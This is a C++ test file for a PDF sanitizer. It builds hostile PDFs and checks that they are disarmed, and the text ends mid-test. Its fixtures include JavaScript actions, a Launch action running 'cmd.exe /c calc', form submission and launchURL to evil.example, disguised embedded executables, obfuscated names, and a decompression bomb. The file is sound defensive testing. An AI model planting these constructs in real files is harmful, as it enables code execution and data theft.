// PDF cdr and text: hostile PDFs written byte by byte at test time, outputs inspected with the
// qpdf and poppler command-line tools (not with sanso's own code).
#include "pdf/pdf_sanitizer.h"

#include <gtest/gtest.h>

#include <chrono>
#include <cstdio>
#include <map>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "pdf/output_verifier.h"
#include "support/pdf_builder.h"
#include "support/test_util.h"

namespace sanso::sanitize::pdf {
namespace {

using test::readFileOrDie;
using test::runCommand;
using test::shellQuote;
using test::TempDir;
using test::writeFileOrDie;

// ---- Building PDFs ----------------------------------------------------------------------

using test::appendUpdate;
using test::buildPdf;

std::string stream(const std::string& dict, const std::string& data) {
  return test::pdfStream(dict, data);
}

std::string textContent(const std::string& text) {
  return stream("", "BT /F1 24 Tf 72 700 Td (" + text + ") Tj ET");
}

// One page saying `text`. Objects: 1 catalog, 2 pages, 3 page, 4 font, 5 content; `extra`
// objects are numbered from 6.
struct Doc {
  std::string catalog_extra;
  std::string page_extra;
  std::string resources_extra;
  std::string text = "Hello sanso";
  std::vector<std::string> extra;
  std::string trailer_extra;

  std::string build() const {
    std::vector<std::string> objects = {
        "<< /Type /Catalog /Pages 2 0 R " + catalog_extra + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R "
        ">> " +
            resources_extra + " >> /Contents 5 0 R " + page_extra + " >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", textContent(text)};
    objects.insert(objects.end(), extra.begin(), extra.end());
    return buildPdf(objects, trailer_extra);
  }
};

// ---- Running and inspecting ---------------------------------------------------------------

struct Outcome {
  Result<FileType> result;
  std::vector<Action> actions;
  std::string path;
};

bool hasAction(const Outcome& outcome, const std::string& action, const std::string& what) {
  for (const Action& a : outcome.actions) {
    if (a.action == action && a.what == what) return true;
  }
  return false;
}

uint64_t actionCount(const Outcome& outcome, const std::string& action, const std::string& what) {
  uint64_t count = 0;
  for (const Action& a : outcome.actions) {
    if (a.action == action && a.what == what) count += a.count;
  }
  return count;
}

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

class PdfTest : public ::testing::Test {
 protected:
  Outcome run(const std::string& pdf, const Options& options,
              Result<FileType> (*handler)(Job&) = sanitizePdf) {
    std::string out = dir_.file("out-" + std::to_string(++runs_));
    Budget budget(options.limits);
    ActionLog log;
    Job job{asBytes(pdf), FileType::kPdf, options, budget, log, out};
    Result<FileType> result = handler(job);
    return {std::move(result), log.actions(), out};
  }
  Outcome run(const std::string& pdf) { return run(pdf, Options{}); }

  // The output fully uncompressed by qpdf, object streams expanded, for marker searches.
  std::string qdf(const std::string& path) {
    int code = -1;
    std::string text = runCommand(
        "qpdf --qdf --object-streams=disable " + shellQuote(path) + " - 2>/dev/null", &code);
    EXPECT_EQ(code, 0) << "qpdf could not read " << path;
    return text;
  }
  void expectValid(const std::string& path) {
    int code = -1;
    std::string report = runCommand("qpdf --check " + shellQuote(path) + " 2>&1", &code);
    EXPECT_EQ(code, 0) << report;
  }
  std::string pdftotext(const std::string& path) {
    return runCommand("pdftotext " + shellQuote(path) + " - 2>/dev/null");
  }
  std::string file(const std::string& name, const std::string& data) {
    std::string path = dir_.file(name);
    writeFileOrDie(path, data);
    return path;
  }

  // Runs sanitizePdf, expects a valid PDF out and returns its uncompressed text.
  std::string sanitizedQdf(const Outcome& outcome) {
    EXPECT_TRUE(outcome.result.isOk()) << outcome.result.status().toString();
    if (!outcome.result.isOk()) return {};
    EXPECT_EQ(*outcome.result, FileType::kPdf);
    expectValid(outcome.path);
    return qdf(outcome.path);
  }

  TempDir dir_;
  int runs_ = 0;
};

// ---- cdr ----------------------------------------------------------------------------------

TEST_F(PdfTest, CleanDocumentKeepsItsTextAndPages) {
  auto outcome = run(Doc{}.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_TRUE(contains(pdftotext(outcome.path), "Hello sanso"));
  EXPECT_TRUE(contains(out, "/Count 1"));
  EXPECT_TRUE(outcome.actions.empty()) << outcome.actions.front().what;
  // The rebuild is deterministic, /ID included.
  auto again = run(Doc{}.build());
  EXPECT_EQ(readFileOrDie(outcome.path), readFileOrDie(again.path));
}

TEST_F(PdfTest, OpenActionJavaScriptIsRemoved) {
  Doc doc;
  doc.catalog_extra = "/OpenAction 6 0 R";
  doc.extra = {"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\)) >>"};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "/OpenAction"));
  EXPECT_FALSE(contains(out, "/JavaScript"));
  EXPECT_FALSE(contains(out, "opened"));
  EXPECT_TRUE(hasAction(outcome, "removed", "open-action"));
  EXPECT_TRUE(hasAction(outcome, "removed", "javascript"));
  EXPECT_TRUE(contains(pdftotext(outcome.path), "Hello sanso"));
}

TEST_F(PdfTest, JavaScriptNameTreeAndStreamScriptAreRemoved) {
  Doc doc;
  doc.catalog_extra = "/Names << /JavaScript << /Names [(init) 6 0 R (more) 7 0 R] >> >>";
  doc.extra = {"<< /S /JavaScript /JS 8 0 R >>", "<< /S /JavaScript /JS (this.print\\(\\)) >>",
               stream("", "app.launchURL('http://evil.example/nametree');")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "nametree"));
  EXPECT_FALSE(contains(out, "this.print"));
  EXPECT_FALSE(contains(out, "/Names"));
  EXPECT_EQ(actionCount(outcome, "removed", "javascript"), 2u);
}

TEST_F(PdfTest, PageAndAnnotationTriggersAreRemoved) {
  Doc doc;
  doc.page_extra = "/AA << /O << /S /JavaScript /JS (pageopen\\(\\)) >> >> /Annots [6 0 R]";
  doc.extra = {
      "<< /Type /Annot /Subtype /Text /Rect [10 10 30 30] /Contents (note) "
      "/AA << /E << /S /JavaScript /JS (mouseenter\\(\\)) >> >> >>"};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "/AA"));
  EXPECT_FALSE(contains(out, "pageopen"));
  EXPECT_FALSE(contains(out, "mouseenter"));
  EXPECT_TRUE(contains(out, "/Subtype /Text")) << "the note itself is harmless and kept";
  EXPECT_TRUE(contains(out, "(note)"));
  EXPECT_TRUE(hasAction(outcome, "removed", "additional-actions"));
  EXPECT_EQ(actionCount(outcome, "removed", "javascript"), 2u);
}

TEST_F(PdfTest, LaunchRemoteAndFormActionsAreRemovedFromLinks) {
  Doc doc;
  doc.page_extra = "/Annots [6 0 R 7 0 R 8 0 R 9 0 R]";
  auto link = [](const std::string& action) {
    return "<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A " + action + " >>";
  };
  doc.extra = {link("<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
               link("<< /S /GoToR /F (\\\\\\\\evilhost\\\\share\\\\remote.pdf) /D [0 /Fit] >>"),
               link("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"),
               link("<< /S /ImportData /F (data.fdf) >>")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  for (const char* marker : {"/Launch", "cmd.exe", "/GoToR", "remote.pdf", "/SubmitForm", "collect",
                             "/ImportData", "data.fdf"}) {
    EXPECT_FALSE(contains(out, marker)) << marker;
  }
  EXPECT_TRUE(hasAction(outcome, "removed", "launch-action"));
  EXPECT_TRUE(hasAction(outcome, "removed", "gotor-action"));
  EXPECT_TRUE(hasAction(outcome, "removed", "submit-form"));
  EXPECT_TRUE(hasAction(outcome, "removed", "import-data"));
}

TEST_F(PdfTest, EmbeddedFilesAndAttachmentsAreRemoved) {
  Doc doc;
  doc.catalog_extra = "/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>";
  doc.page_extra = "/Annots [8 0 R]";
  doc.extra = {"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
               stream("/Type /EmbeddedFile", "MZ-EMBEDDED-PAYLOAD"),
               "<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 9 0 R "
               "/Name /PushPin >>",
               "<< /Type /Filespec /F (dropper.scr) /EF << /F 10 0 R >> >>",
               stream("/Type /EmbeddedFile", "MZ-ATTACHED-PAYLOAD")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  for (const char* marker : {"EmbeddedFile", "FileAttachment", "invoice.exe", "dropper.scr",
                             "MZ-EMBEDDED-PAYLOAD", "MZ-ATTACHED-PAYLOAD", "/Filespec"}) {
    EXPECT_FALSE(contains(out, marker)) << marker;
  }
  EXPECT_TRUE(hasAction(outcome, "removed", "embedded-file"));
  EXPECT_TRUE(hasAction(outcome, "removed", "file-attachment"));
}

TEST_F(PdfTest, XfaAndRichMediaAreRemoved) {
  Doc doc;
  doc.catalog_extra = "/AcroForm << /Fields [] /XFA 6 0 R /NeedAppearances false >>";
  doc.page_extra = "/Annots [7 0 R 8 0 R]";
  doc.extra = {stream("", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">XFA-MARKER</xdp:xdp>"),
               "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << "
               "/Assets << /Names [(movie.swf) << /Type /Filespec /F (movie.swf) >>] >> >> >>",
               "<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 9 0 R >>",
               stream("/Type /3D /Subtype /U3D", "U3D-MARKER")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  for (const char* marker :
       {"XFA-MARKER", "/XFA", "/AcroForm", "/RichMedia", "movie.swf", "/3D", "U3D-MARKER"}) {
    EXPECT_FALSE(contains(out, marker)) << marker;
  }
  EXPECT_TRUE(hasAction(outcome, "removed", "xfa"));
  EXPECT_TRUE(hasAction(outcome, "removed", "rich-media"));
  EXPECT_TRUE(hasAction(outcome, "removed", "3d"));
}

TEST_F(PdfTest, ObfuscatedNamesAreStillRecognized) {
  Doc doc;
  doc.catalog_extra = "/Open#41ction 6 0 R";
  doc.extra = {"<< /#53 /J#61va#53cript /J#53 (app.alert\\('obfuscated'\\)) >>"};
  std::string input = doc.build();
  ASSERT_FALSE(contains(input, "/JavaScript"));
  auto outcome = run(input);
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "obfuscated"));
  EXPECT_FALSE(contains(out, "/JavaScript"));
  EXPECT_TRUE(hasAction(outcome, "removed", "javascript"));
}

TEST_F(PdfTest, JavaScriptInsideAnObjectStreamIsRemoved) {
  Doc doc;
  doc.catalog_extra = "/OpenAction 6 0 R";
  doc.extra = {"<< /S /JavaScript /JS (app.alert\\('objstm'\\)) >>"};
  std::string plain = file("plain.pdf", doc.build());
  std::string packed = dir_.file("packed.pdf");
  int code = -1;
  runCommand("qpdf --object-streams=generate " + shellQuote(plain) + " " + shellQuote(packed),
             &code);
  ASSERT_EQ(code, 0);
  std::string input = readFileOrDie(packed);
  ASSERT_TRUE(contains(input, "/ObjStm"));
  ASSERT_FALSE(contains(input, "objstm")) << "the script must be hidden in a compressed stream";
  auto outcome = run(input);
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "objstm"));
  EXPECT_FALSE(contains(out, "/JavaScript"));
  EXPECT_TRUE(hasAction(outcome, "removed", "javascript"));
}

TEST_F(PdfTest, JavaScriptAddedByAnIncrementalUpdateIsRemoved) {
  std::string base = Doc{}.build();
  std::string updated =
      appendUpdate(base, {{1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"},
                          {6, "<< /S /JavaScript /JS (app.alert\\('update'\\)) >>"}});
  auto outcome = run(updated);
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "update"));
  EXPECT_FALSE(contains(out, "/OpenAction"));
  EXPECT_TRUE(hasAction(outcome, "removed", "javascript"));
}

TEST_F(PdfTest, ObjectsOfEarlierRevisionsAreNotCarriedOver) {
  Doc doc;
  doc.catalog_extra = "/OpenAction 6 0 R";
  doc.extra = {"<< /S /JavaScript /JS (app.alert\\('oldrevision'\\)) >>"};
  // The update drops the open action; the script object stays in the file, unreferenced.
  std::string updated = appendUpdate(doc.build(), {{1, "<< /Type /Catalog /Pages 2 0 R >>"}});
  auto outcome = run(updated);
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "oldrevision"));
  EXPECT_FALSE(contains(readFileOrDie(outcome.path), "oldrevision"));
}

TEST_F(PdfTest, PostScriptXObjectsAreRemovedButImagesKept) {
  Doc doc;
  doc.resources_extra = "/XObject << /PS1 6 0 R /Im1 7 0 R /Fm1 8 0 R >>";
  doc.extra = {
      stream("/Type /XObject /Subtype /PS", "POSTSCRIPT-MARKER showpage"),
      stream("/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray "
             "/BitsPerComponent 8 /Metadata 9 0 R /OPI << /Version 2.0 >>",
             std::string("\x00\xff\xff\x00", 4)),
      stream("/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Subtype2 /PS", "FORM-PS-MARKER"),
      stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta>IMAGE-XMP</x:xmpmeta>")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "POSTSCRIPT-MARKER"));
  EXPECT_FALSE(contains(out, "FORM-PS-MARKER"));
  EXPECT_FALSE(contains(out, "/Subtype /PS"));
  EXPECT_FALSE(contains(out, "IMAGE-XMP"));
  EXPECT_FALSE(contains(out, "/OPI"));
  EXPECT_TRUE(contains(out, "/Subtype /Image"));
  EXPECT_TRUE(hasAction(outcome, "removed", "postscript"));
  EXPECT_TRUE(hasAction(outcome, "removed", "metadata"));
}

TEST_F(PdfTest, ResourceNamesThatLookLikeActionKeysAreKept) {
  // Producers choose resource names freely; a font called /AA or /JS is not an action.
  std::string pdf = buildPdf({
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /AA 4 0 R "
      "/JS 4 0 R >> >> /Contents 5 0 R >>",
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
      stream("", "BT /AA 24 Tf 72 700 Td (Named AA) Tj /JS 24 Tf 0 -40 Td (Named JS) Tj ET"),
  });
  auto outcome = run(pdf);
  sanitizedQdf(outcome);
  std::string text = pdftotext(outcome.path);
  EXPECT_TRUE(contains(text, "Named AA")) << text;
  EXPECT_TRUE(contains(text, "Named JS")) << text;
}

std::string uriLink(const std::string& uri) {
  return "<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A << /S /URI /URI (" + uri +
         ") >> >>";
}

Doc linkDoc() {
  Doc doc;
  doc.page_extra = "/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R]";
  doc.extra = {uriLink("https://example.org/safe/page"),
               uriLink("javascript:alert\\(1\\)"),
               uriLink("file:///C:/Windows/System32/calc.exe"),
               uriLink("https://evil.example/download/setup.exe"),
               uriLink("\\\\\\\\fileserver\\\\share\\\\run.lnk"),
               uriLink("mailto:kikaku@city.example.lg.jp")};
  return doc;
}

TEST_F(PdfTest, BrowsingLinksAreKeptAndLaunchingLinksNeutralized) {
  auto outcome = run(linkDoc().build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_TRUE(contains(out, "https://example.org/safe/page"));
  EXPECT_TRUE(contains(out, "mailto:kikaku@city.example.lg.jp"));
  for (const char* marker : {"javascript:", "calc.exe", "setup.exe", "run.lnk"}) {
    EXPECT_FALSE(contains(out, marker)) << marker;
  }
  EXPECT_EQ(actionCount(outcome, "neutralized", "launch-link"), 4u);
}

TEST_F(PdfTest, HyperlinksAreRemovedOnRequest) {
  Options options;
  options.keep_hyperlinks = false;
  auto outcome = run(linkDoc().build(), options);
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "/URI"));
  EXPECT_FALSE(contains(out, "example.org"));
  EXPECT_EQ(actionCount(outcome, "removed", "uri-action"), 2u);
}

// Two pages; page 1 links to page 2 directly, through a named destination, and an outline
// points at both pages (one outline item carries a script).
std::string twoPageDoc() {
  return buildPdf({
      "<< /Type /Catalog /Pages 2 0 R /Outlines 9 0 R /PageLabels << /Nums [0 << /S /r >> 1 "
      "<< /S /D /P (A-) /St 5 /Evil (x) >>] >> /Names << /Dests << /Names [(chapter2) [4 0 R "
      "/Fit]] >> >> /Lang (ja-JP) >>",
      "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> "
      ">> /Contents 6 0 R /Annots [7 0 R 8 0 R] >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> "
      ">> /Contents 12 0 R >>",
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
      textContent("First page"),
      "<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /Dest [4 0 R /XYZ 0 792 null] >>",
      "<< /Type /Annot /Subtype /Link /Rect [72 100 200 120] /A << /S /GoTo /D (chapter2) "
      "/Next << /S /JavaScript /JS (chained\\(\\)) >> >> >>",
      "<< /Type /Outlines /First 10 0 R /Last 11 0 R /Count 2 >>",
      "<< /Title (Chapter One) /Parent 9 0 R /Next 11 0 R /Dest [3 0 R /Fit] >>",
      "<< /Title (Chapter Two) /Parent 9 0 R /Prev 10 0 R /A << /S /JavaScript /JS "
      "(outlinescript\\(\\)) >> >>",
      textContent("Second page"),
  });
}

TEST_F(PdfTest, InternalLinksOutlinesAndLabelsSurviveTheRebuild) {
  auto outcome = run(twoPageDoc());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "chained"));
  EXPECT_FALSE(contains(out, "outlinescript"));
  EXPECT_FALSE(contains(out, "/Evil"));
  EXPECT_TRUE(contains(out, "Chapter One"));
  EXPECT_TRUE(contains(out, "Chapter Two"));
  EXPECT_TRUE(contains(out, "/Lang (ja-JP)"));
  EXPECT_TRUE(contains(out, "/P (A-)"));
  EXPECT_EQ(actionCount(outcome, "removed", "javascript"), 2u);

  // Both links of page 1 must point at (the copy of) page 2.
  int code = -1;
  std::string json_text = runCommand(
      "qpdf --json=2 --json-key=pages --json-key=qpdf " + shellQuote(outcome.path), &code);
  ASSERT_EQ(code, 0);
  auto json = nlohmann::json::parse(json_text);
  ASSERT_EQ(json["pages"].size(), 2u);
  std::string page2 = json["pages"][1]["object"];
  auto& objects = json["qpdf"][1];
  auto annots = objects["obj:" + std::string(json["pages"][0]["object"])]["value"]["/Annots"];
  std::vector<std::string> targets;
  auto resolve = [&](const nlohmann::json& value) -> nlohmann::json {
    if (value.is_string() && std::string(value).find(" R") != std::string::npos) {
      return objects["obj:" + std::string(value)]["value"];
    }
    return value;
  };
  for (const auto& ref : resolve(annots)) {
    auto annot = resolve(ref);
    if (annot.contains("/Dest")) targets.push_back(resolve(annot["/Dest"])[0]);
    if (annot.contains("/A")) targets.push_back(resolve(resolve(annot["/A"])["/D"])[0]);
  }
  ASSERT_EQ(targets.size(), 2u);
  EXPECT_EQ(targets[0], page2);
  EXPECT_EQ(targets[1], page2);
}

TEST_F(PdfTest, FormFieldsAreFlattenedIntoThePage) {
  Doc doc;
  doc.catalog_extra = "/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>";
  doc.page_extra = "/Annots [6 0 R]";
  doc.extra = {
      "<< /FT /Tx /T (name) /V (FIELDVALUE) /Type /Annot /Subtype /Widget /Rect [72 600 300 630] "
      "/P 3 0 R /F 4 /AP << /N 7 0 R >> /AA << /K << /S /JavaScript /JS (keystroke\\(\\)) >> >> >>",
      stream("/Type /XObject /Subtype /Form /BBox [0 0 228 30] /Resources << /Font << /F1 4 0 R "
             ">> >>",
             "BT /F1 12 Tf 2 10 Td (FIELDVALUE) Tj ET")};
  auto outcome = run(doc.build());
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "/Widget"));
  EXPECT_FALSE(contains(out, "/AcroForm"));
  EXPECT_FALSE(contains(out, "keystroke"));
  EXPECT_TRUE(hasAction(outcome, "converted", "form-field"));
  EXPECT_TRUE(hasAction(outcome, "removed", "javascript"));
  std::string text = pdftotext(outcome.path);
  EXPECT_TRUE(contains(text, "FIELDVALUE")) << text;
  EXPECT_TRUE(contains(text, "Hello sanso")) << text;
}

TEST_F(PdfTest, MetadataIsRemovedUnlessKeptOnRequest) {
  Doc doc;
  doc.catalog_extra = "/Metadata 6 0 R";
  doc.trailer_extra = "/Info 7 0 R";
  doc.extra = {stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta>XMP-AUTHOR</x:xmpmeta>"),
               "<< /Author (Yamada Taro) /Title (Budget 2025) /Custom (x) >>"};
  auto removed = run(doc.build());
  std::string out = sanitizedQdf(removed);
  EXPECT_FALSE(contains(out, "Yamada"));
  EXPECT_FALSE(contains(out, "XMP-AUTHOR"));
  EXPECT_TRUE(hasAction(removed, "removed", "metadata"));

  Options keep;
  keep.remove_metadata = false;
  auto kept = run(doc.build(), keep);
  std::string kept_out = sanitizedQdf(kept);
  EXPECT_TRUE(contains(kept_out, "/Author (Yamada Taro)"));
  EXPECT_FALSE(contains(kept_out, "/Custom"));
  EXPECT_FALSE(contains(kept_out, "XMP-AUTHOR"));
}

TEST_F(PdfTest, EmptyUserPasswordIsOpenedAndTheOutputIsUnencrypted) {
  Doc doc;
  doc.catalog_extra = "/OpenAction 6 0 R";
  doc.extra = {"<< /S /JavaScript /JS (app.alert\\('encrypted-js'\\)) >>"};
  std::string plain = file("plain.pdf", doc.build());
  std::string encrypted = dir_.file("encrypted.pdf");
  int code = -1;
  runCommand(
      "qpdf --encrypt '' owner-secret 256 -- " + shellQuote(plain) + " " + shellQuote(encrypted),
      &code);
  ASSERT_EQ(code, 0);
  auto outcome = run(readFileOrDie(encrypted));
  std::string out = sanitizedQdf(outcome);
  EXPECT_FALSE(contains(out, "encrypted-js"));
  EXPECT_TRUE(hasAction(outcome, "removed", "encryption"));
  std::string info = runCommand("qpdf --show-encryption " + shellQuote(outcome.path));
  EXPECT_TRUE(contains(info, "File is not encrypted")) << info;
  EXPECT_TRUE(contains(pdftotext(outcome.path), "Hello sanso"));
}

TEST_F(PdfTest, RealUserPasswordIsBlockedAsEncrypted) {
  std::string plain = file("plain.pdf", Doc{}.build());
  std::string encrypted = dir_.file("locked.pdf");
  int code = -1;
  runCommand("qpdf --encrypt user-secret owner-secret 256 -- " + shellQuote(plain) + " " +
                 shellQuote(encrypted),
             &code);
  ASSERT_EQ(code, 0);
  std::string input = readFileOrDie(encrypted);
  for (auto handler : {sanitizePdf, pdfToText}) {
    auto outcome = run(input, Options{}, handler);
    ASSERT_FALSE(outcome.result.isOk());
    EXPECT_TRUE(outcome.result.status().isBlocked());
    EXPECT_EQ(outcome.result.status().reason(), "encrypted");
  }
}

TEST_F(PdfTest, DamagedCrossReferenceIsRepairedAndReported) {
  std::string pdf = Doc{}.build();
  // Shift every object: the xref offsets no longer match.
  pdf.insert(pdf.find("1 0 obj"), "% padding that moves all objects\n");
  auto outcome = run(pdf);
  sanitizedQdf(outcome);
  EXPECT_TRUE(hasAction(outcome, "repaired", "pdf-structure"));
  EXPECT_TRUE(contains(pdftotext(outcome.path), "Hello sanso"));
}

TEST_F(PdfTest, GarbageIsBlockedWithoutCrashing) {
  std::string valid = Doc{}.build();
  std::vector<std::string> inputs = {
      "%PDF-1.7\n" + std::string(2000, '\x8f'),
      "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 1 0 R >> endobj\ntrailer << /Root 1 0 R >>",
      valid.substr(0, valid.size() / 3),
      "not a pdf at all",
  };
  for (const std::string& input : inputs) {
    for (auto handler : {sanitizePdf, pdfToText}) {
      auto outcome = run(input, Options{}, handler);
      if (outcome.result.isOk()) {
        // A truncated file may be recoverable; then the output must be a valid PDF or text.
        if (handler == sanitizePdf) expectValid(outcome.path);
        continue;
      }
      EXPECT_TRUE(outcome.result.status().isBlocked()) << outcome.result.status().toString();
    }
  }
}

TEST_F(PdfTest, LimitsAreEnforced) {
  Options few_pages;
  few_pages.limits.max_pages = 1;
  auto pages = run(twoPageDoc(), few_pages);
  ASSERT_FALSE(pages.result.isOk());
  EXPECT_EQ(pages.result.status().reason(), "limit-pages");

  Options few_objects;
  few_objects.limits.max_pdf_objects = 4;
  auto objects = run(Doc{}.build(), few_objects);
  ASSERT_FALSE(objects.result.isOk());
  EXPECT_EQ(objects.result.status().reason(), "limit-pdf-objects");

  Options no_time;
  no_time.limits.max_time = std::chrono::milliseconds(-1);
  auto time = run(twoPageDoc(), no_time);
  ASSERT_FALSE(time.result.isOk());
  EXPECT_EQ(time.result.status().reason(), "limit-time");
}

// ---- the verification pass ------------------------------------------------------------------

Status verify(const std::string& pdf, size_t pages, bool allow_uri) {
  Budget budget(Limits{});
  return verifyRebuilt(pdf, pages, allow_uri, budget);
}

TEST(PdfOutputVerifier, AcceptsAPlainDocument) {
  EXPECT_TRUE(verify(Doc{}.build(), 1, true).isOk());
}

TEST(PdfOutputVerifier, FailsClosedOnAnySurvivingMarker) {
  std::vector<Doc> hostile(6);
  hostile[0].catalog_extra = "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>";
  hostile[1].page_extra = "/Annots [6 0 R]";
  hostile[1].extra = {"<< /Subtype /Link /Rect [0 0 1 1] /A << /S /J#61vaScript /JS (x) >> >>"};
  hostile[2].catalog_extra = "/Foo << /S /Launch /F (calc.exe) >>";
  hostile[3].resources_extra = "/XObject << /P 6 0 R >>";
  hostile[3].extra = {stream("/Type /XObject /Subtype /PS", "showpage")};
  hostile[4].page_extra = "/Annots [6 0 R]";
  hostile[4].extra = {"<< /Subtype /Widget /Rect [0 0 1 1] >>"};
  hostile[5].catalog_extra = "/Names << /EmbeddedFiles << /Names [] >> >>";
  for (size_t i = 0; i < hostile.size(); ++i) {
    Status status = verify(hostile[i].build(), 1, true);
    EXPECT_TRUE(status.isBlocked()) << i;
    EXPECT_EQ(status.reason(), "sanitize-verification-failed") << i;
  }
}

TEST(PdfOutputVerifier, UriIsAllowedOnlyWithHyperlinks) {
  Doc doc;
  doc.page_extra = "/Annots [6 0 R]";
  doc.extra = {uriLink("https://example.org/")};
  EXPECT_TRUE(verify(doc.build(), 1, true).isOk());
  EXPECT_TRUE(verify(doc.build(), 1, false).isBlocked());
}

TEST(PdfOutputVerifier, PageCountAndDamageFailClosed) {
  EXPECT_TRUE(verify(Doc{}.build(), 2, true).isBlocked());
  std::string damaged = Doc{}.build();
  damaged.insert(damaged.find("1 0 obj"), "\n\n");
  EXPECT_TRUE(verify(damaged, 1, true).isBlocked()) << "a rebuilt file never needs repair";
  EXPECT_TRUE(verify("garbage", 1, true).isBlocked());
}

// ---- text ---------------------------------------------------------------------------------

TEST_F(PdfTest, TextHasOnePagePerFormFeed) {
  auto outcome = run(twoPageDoc(), Options{}, pdfToText);
  ASSERT_TRUE(outcome.result.isOk()) << outcome.result.status().toString();
  EXPECT_EQ(*outcome.result, FileType::kText);
  std::string text = readFileOrDie(outcome.path);
  size_t feed = text.find("\f\n");
  ASSERT_NE(feed, std::string::npos) << text;
  EXPECT_TRUE(contains(text.substr(0, feed), "First page")) << text;
  EXPECT_TRUE(contains(text.substr(feed), "Second page")) << text;
  EXPECT_EQ(text.find("\f\n", feed + 1), std::string::npos);
}

TEST_F(PdfTest, TextExtractionIsCutOffAtTheTimeLimit) {
  // Form k shows form k+1 ten times, nine levels deep: a billion characters from a 3 KB file.
  Doc doc;
  doc.resources_extra = "/XObject << /X 6 0 R >>";
  doc.text = "start) Tj ET /X Do BT (end";
  const int levels = 9;
  for (int level = 0; level < levels; ++level) {
    std::string body = "BT /F1 1 Tf (ab) Tj ET";
    std::string resources = "/Resources << /Font << /F1 4 0 R >> >>";
    if (level + 1 < levels) {
      body.clear();
      for (int i = 0; i < 10; ++i) body += "/X Do ";
      resources = "/Resources << /XObject << /X " + std::to_string(7 + level) + " 0 R >> >>";
    }
    doc.extra.push_back(
        stream("/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + resources, body));
  }
  Options options;
  options.limits.max_time = std::chrono::seconds(1);
  auto start = std::chrono::steady_clock::now();
  auto outcome = run(doc.build(), options, pdfToText);
  auto spent = std::chrono::steady_clock::now() - start;
  ASSERT_FALSE(outcome.result.isOk());
  EXPECT_EQ(outcome.result.status().reason(), "limit-time");
  EXPECT_LT(spent, std::chrono::seconds(5));
}

TEST_F(PdfTest, JapaneseTextSurvivesExtraction) {
  if (!test::haveProgram("soffice")) GTEST_SKIP() << "LibreOffice is not installed";
  const std::string japanese = "宗像市役所 情報政策課\n令和七年度 予算書（案）";
  std::string source = file("japanese.txt", japanese + "\n");
  int code = -1;
  runCommand("cd " + shellQuote(dir_.path()) + " && HOME=" + shellQuote(dir_.path()) +
                 " soffice -env:UserInstallation=file://" + dir_.path() +
                 "/lo --headless --convert-to pdf " + shellQuote(source) + " >/dev/null 2>&1",
             &code);
  ASSERT_EQ(code, 0);
  std::string input = readFileOrDie(dir_.file("japanese.pdf"));
  auto outcome = run(input, Options{}, pdfToText);
  ASSERT_TRUE(outcome.result.isOk()) << outcome.result.status().toString();
  std::string text = readFileOrDie(outcome.path);
  EXPECT_TRUE(contains(text, "宗像市役所 情報政策課")) << text;
  EXPECT_TRUE(contains(text, "令和七年度 予算書（案）")) << text;

  // cdr keeps the text extractable by an independent tool.
  auto cdr = run(input);
  sanitizedQdf(cdr);
